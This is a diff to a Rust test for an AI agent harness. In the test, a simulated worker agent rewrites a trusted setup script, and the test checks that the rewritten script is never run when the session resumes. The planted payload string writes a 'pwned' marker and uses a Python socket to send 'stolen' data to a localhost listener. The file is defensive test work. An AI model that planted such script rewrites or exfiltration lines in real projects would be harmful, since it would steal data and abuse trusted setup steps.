@@ -172,15 +172,19 @@ async fn a_rewritten_setup_never_runs_on_resume(mode: WorktreeMode) {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     listener.set_nonblocking(true).unwrap();
     let port = listener.local_addr().unwrap().port();
-    // The worker turns the trusted script into one that sends what it reads out, then
-    // sleeps so that the interrupt comes while its tree holds the change.
+    // The worker turns the trusted script into one that marks the tree and sends what it
+    // reads out, then sleeps so that the interrupt comes while its tree holds the change.
     let plant = format!(
-        "printf '%s\\n' \"python3 -c \\\"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'stolen')\\\"\" \
+        "printf '%s\\n' 'echo pwned > pwned' \"python3 -c \\\"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'stolen')\\\"\" \
          > scripts/setup.sh && echo planted > flag && sleep 60"
     );
     let server = FakeServer::with_responder(move |request| match who(request) {
         Who::Lead => lead_reply(request, &[("Tidy the setup.", None)]),
-        Who::Worker => worker(request, &plant, "cat scripts/setup.sh | head -c 40; echo"),
+        Who::Worker => worker(
+            request,
+            &plant,
+            "cat scripts/setup.sh; test -e pwned && echo MARKER-PRESENT || echo MARKER-ABSENT",
+        ),
         Who::Reviewer => reviewer_reply(request),
     })
     .await;
@@ -189,16 +193,19 @@ async fn a_rewritten_setup_never_runs_on_resume(mode: WorktreeMode) {
 
     server.assert_no_violations();
     let stolen = std::iter::from_fn(|| listener.accept().ok()).count();
+    let probe = probe_output(&server);
     assert_eq!(
-        stolen,
-        0,
-        "the rewritten setup never ran with the network on resume ({mode}): {}",
+        (stolen, probe.contains("MARKER-ABSENT")),
+        (0, true),
+        "the rewritten setup never ran on resume, with the network or without: nothing \
+         connected and its marker is absent from the tree ({mode}); the worker saw: \
+         {probe}\n{}",
         stderr(&resumed)
     );
     assert!(
-        probe_output(&server).contains("python3 -c"),
+        probe.contains("python3 -c") && probe.contains("echo pwned > pwned"),
         "the worker's rewrite was still in its tree when the run resumed, so the test \
-         can fail ({mode})"
+         can fail ({mode}): {probe}"
     );
 }
 
